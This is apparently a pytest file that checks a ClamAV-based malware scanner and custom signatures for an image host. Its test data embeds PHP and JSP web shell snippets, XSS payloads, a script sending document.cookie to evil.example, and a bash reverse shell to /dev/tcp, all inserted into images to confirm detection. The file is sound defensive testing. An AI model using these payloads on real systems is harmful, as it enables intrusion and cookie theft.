"""The malware scan against a real clamd loaded with the project's signatures (origin/clamav)."""
from __future__ import annotations

import io
import random
import re
import socket
import struct
import threading
import time
import zipfile
from pathlib import Path

import pytest
import pyvips
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from origin.config import Settings
from origin.errors import Unavailable
from origin.ports.scanner import ScanFailed, ScannerUnavailable, ScanOff, ScanResult
from origin.ports.scanner_clamd import ClamdScanner, parse_reply
from origin.services import clamd as service
from origin.wiring import open_scanner
from tests import images

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SIGNATURE_DIR = Path(service.SOURCE)


@pytest.fixture(scope="module")
def scanner(clamd_socket) -> ClamdScanner:
    return ClamdScanner(clamd_socket, timeout=30)


def jpeg_with_comment(comment: bytes) -> bytes:
    data = images.jpeg()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def png_with_text(key: str, text: str) -> bytes:
    info = PngInfo()
    info.add_text(key, text)
    out = io.BytesIO()
    images.scene(200, 150).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def found(result: ScanResult, name: str) -> bool:
    return not result.clean and result.signature is not None and result.signature.startswith(name)


# --- clean images ---------------------------------------------------------------------------------

@pytest.mark.parametrize("make", [
    images.jpeg, images.png_with_alpha, images.animated_gif, images.gps_jpeg, images.rotated_jpeg,
    lambda: images.hevc_heic(320, 240),
    lambda: pyvips.Image.new_from_buffer(images.jpeg(), "").webpsave_buffer(),
    lambda: pyvips.Image.new_from_buffer(images.jpeg(), "").heifsave_buffer(compression="av1"),
    lambda: png_with_text("Description", "A garden in spring, <b>bold</b> & 100% <i>natural</i>"),
], ids=["jpeg", "png", "gif", "gps-jpeg", "rotated-jpeg", "heic", "webp", "avif", "png-text"])
def test_generated_images_are_clean(scanner, make):
    assert scanner.scan(make()) == ScanResult(True, None)


def test_every_real_photo_is_clean(scanner):
    photos = sorted(p for p in images.PHOTO_DIR.rglob("*") if p.suffix.lower() in (".jpg", ".jpeg", ".png"))
    assert len(photos) >= 20
    hits = {p.name: r.signature for p in photos if not (r := scanner.scan(p.read_bytes())).clean}
    assert hits == {}


def test_noise_the_size_of_a_full_upload_is_clean(scanner):
    noise = random.Random(20240601).randbytes(20 * 1024 * 1024)  # compressed image data looks like this
    assert scanner.scan(noise).clean
    assert scanner.scan(images.big_jpeg(12)).clean


# --- what the signatures find ---------------------------------------------------------------------

def test_eicar_alone_and_appended_to_a_jpeg(scanner):
    assert found(scanner.scan(EICAR), "Imagehost.Test.EICAR")
    assert found(scanner.scan(images.jpeg() + EICAR), "Imagehost.Test.EICAR")


def test_php_in_a_jpeg_comment(scanner):
    result = scanner.scan(jpeg_with_comment(b'<?php system($_GET["c"]); ?>'))
    assert found(result, "Imagehost.Php.")


def test_script_in_a_png_text_chunk(scanner):
    data = png_with_text("Comment", "<script>document.location='https://evil.example/?'+document.cookie</script>")
    assert Image.open(io.BytesIO(data)).text["Comment"].startswith("<script>")
    assert found(scanner.scan(data), "Imagehost.Html.Script")


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("shell.php", "hello")
    return out.getvalue()


PAYLOADS = [
    ("Imagehost.Test.EICAR", EICAR),
    ("Imagehost.Php.OpenTag", b"<?PHP echo 'x'; ?>"),
    ("Imagehost.Php.Superglobal", b"<?= $_POST['cmd'] ?>"),
    ("Imagehost.Php.EvalDecode", b"@eval (base64_decode('ZWNobyAxOw=='));"),
    ("Imagehost.Php.EvalDecode", b"assert(gzinflate($x));"),
    ("Imagehost.Php.ShellFunction", b"shell_exec ($x);"),
    ("Imagehost.Php.HaltCompiler", b"__HALT_COMPILER(); ?>"),
    ("Imagehost.Html.Script", b"<SCRIPT src=//evil.example/x.js>"),
    ("Imagehost.Html.Iframe", b"<iframe src=//evil.example>"),
    ("Imagehost.Html.JavascriptUri", b"<a href='JavaScript:alert(1)'>"),
    ("Imagehost.Html.EventHandler", b"<svg/onload=alert(1)>"),
    ("Imagehost.Html.EventHandler", b"<img src=x onerror =alert(1)>"),
    ("Imagehost.Asp.Directive", b'<%@ Page Language="C#" %>'),
    ("Imagehost.Asp.Eval", b'<%eval request("x")%>'),
    ("Imagehost.Jsp.RuntimeExec", b'Runtime.getRuntime().exec(request.getParameter("c"))'),
    ("Imagehost.Jsp.Tag", b"<jsp:scriptlet>"),
    ("Imagehost.Shell.Shebang", b"#!/bin/sh\nid\n"),
    ("Imagehost.Shell.Shebang", b"#! /usr/bin/env python3\n"),
    ("Imagehost.Shell.DevTcp", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("Imagehost.Polyglot.PE", b"MZ\x90\x00This program cannot be run in DOS mode.\r\r\n$"),
    ("Imagehost.Polyglot.ELF", b"\x7fELF\x02\x01\x01\x00" + bytes(8)),
    ("Imagehost.Polyglot.RAR", b"Rar!\x1a\x07\x00\xcf\x90s"),
    ("Imagehost.Polyglot.ZIP", zip_bytes()),
]


@pytest.mark.parametrize("where", ["comment", "appended"])
@pytest.mark.parametrize("name, payload", PAYLOADS, ids=[f"{n.split('.', 1)[1]}-{i}" for i, (n, _) in
                                                          enumerate(PAYLOADS)])
def test_each_signature_finds_its_payload_inside_an_image(scanner, name, payload, where):
    data = jpeg_with_comment(payload) if where == "comment" else images.jpeg() + payload
    result = scanner.scan(data)
    assert found(result, name), result


@pytest.mark.parametrize("text", [
    b"<?php", b"<script", b"<%", b"#!", b"eval(", b"PK\x03\x04", b"$_GET", b"<jsp:", b"onload", b"%@ page",
    b"Photo by Ana <ana@example.com>, ISO 200 @ 1/125s; \"Garden\" (c) 2024 - 100% natural",
])
def test_fragments_and_ordinary_text_do_not_trigger(scanner, text):
    assert scanner.scan(jpeg_with_comment(text)).clean


def test_every_signature_is_documented_and_tested():
    names = set()
    for path in SIGNATURE_DIR.iterdir():
        if path.suffix in service.SIGNATURE_SUFFIXES:
            names |= {re.split(r"[:;]", line, maxsplit=1)[0] for line in path.read_text().splitlines() if line}
    readme = (SIGNATURE_DIR / "README.md").read_text()
    assert names and {n for n in names if f"`{n}`" not in readme} == set()
    assert names == {n for n, _ in PAYLOADS}


# --- the protocol and its failures ----------------------------------------------------------------

def test_ping_and_version(scanner):
    assert scanner.ping()
    assert scanner.version().startswith("ClamAV ")


def test_a_stream_over_clamds_limit_is_a_scan_failure_not_a_verdict(scanner, clamd_settings):
    with pytest.raises(ScanFailed, match="size limit"):
        scanner.scan(bytes(clamd_settings.max_upload_bytes + 2 * 1024 * 1024))
    assert scanner.scan(images.jpeg() + bytes(clamd_settings.max_upload_bytes - 100_000)).clean  # the limit fits


def test_replies_are_parsed():
    assert parse_reply("stream: OK") == ScanResult(True, None)
    assert parse_reply("stream: Win.Test.EICAR_HDB-1 FOUND") == ScanResult(False, "Win.Test.EICAR_HDB-1")
    for reply in ("INSTREAM size limit exceeded. ERROR", "stream: Can't allocate memory ERROR", ""):
        with pytest.raises(ScanFailed):
            parse_reply(reply)
    assert issubclass(ScanFailed, ScannerUnavailable) and issubclass(ScannerUnavailable, Unavailable)


def test_a_dead_socket_is_unavailable(tmp_path):
    dead = ClamdScanner(str(tmp_path / "nobody.sock"), timeout=2)
    assert not dead.ping()
    with pytest.raises(ScannerUnavailable):
        dead.scan(images.jpeg())
    with pytest.raises(ScannerUnavailable):
        ClamdScanner("127.0.0.1:1", connect_timeout=1).scan(b"x")


def test_a_clamd_that_hangs_times_out(tmp_path):
    path = str(tmp_path / "hang.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    server.listen(1)
    held = []
    threading.Thread(target=lambda: held.append(server.accept()), daemon=True).start()
    start = time.monotonic()
    with pytest.raises(ScannerUnavailable):
        ClamdScanner(path, timeout=0.5).scan(images.jpeg())
    assert time.monotonic() - start < 5
    server.close()


def test_a_second_clamd_starts_answers_and_once_stopped_is_unavailable(tmp_path):
    settings = Settings(data_dir=tmp_path / "var")
    start = time.monotonic()
    path = service.ensure_clamd(settings)
    started_in = time.monotonic() - start
    try:
        assert started_in < 20, f"clamd took {started_in:.1f} s to answer"
        assert path == str((tmp_path / "var" / "clamd" / "clamd.sock").resolve())
        pid = (tmp_path / "var" / "clamd" / "clamd.pid").read_text().strip()
        assert service.ensure_clamd(settings) == path  # already running: reused, not restarted
        assert (tmp_path / "var" / "clamd" / "clamd.pid").read_text().strip() == pid
        db = tmp_path / "var" / "clamd" / "db"
        assert sorted(p.name for p in db.iterdir()) == sorted(p.name for p in service.signature_files())
        conf = (tmp_path / "var" / "clamd" / "clamd.conf").read_text()
        assert f"LocalSocket {path}\n" in conf and f"DatabaseDirectory {db.resolve()}\n" in conf
        assert f"StreamMaxLength {settings.max_upload_bytes + 1024 * 1024}\n" in conf
        assert "LogSyslog no" in conf and "Foreground yes" in conf
        scanner = open_scanner(settings)
        assert isinstance(scanner, ClamdScanner) and found(scanner.scan(EICAR), "Imagehost.Test.EICAR")
    finally:
        assert service.stop_clamd(settings)
    with pytest.raises(ScannerUnavailable):
        scanner.scan(images.jpeg())
    assert not service.stop_clamd(settings)  # nothing left to stop


def test_clamd_is_not_started_for_a_tcp_address_and_scanning_can_be_turned_off(tmp_path):
    with pytest.raises(ScannerUnavailable):
        service.ensure_clamd(Settings(data_dir=tmp_path, clamd_socket="127.0.0.1:1"))
    off = open_scanner(Settings(data_dir=tmp_path, scan=False))
    assert isinstance(off, ScanOff) and off.scan(EICAR).clean
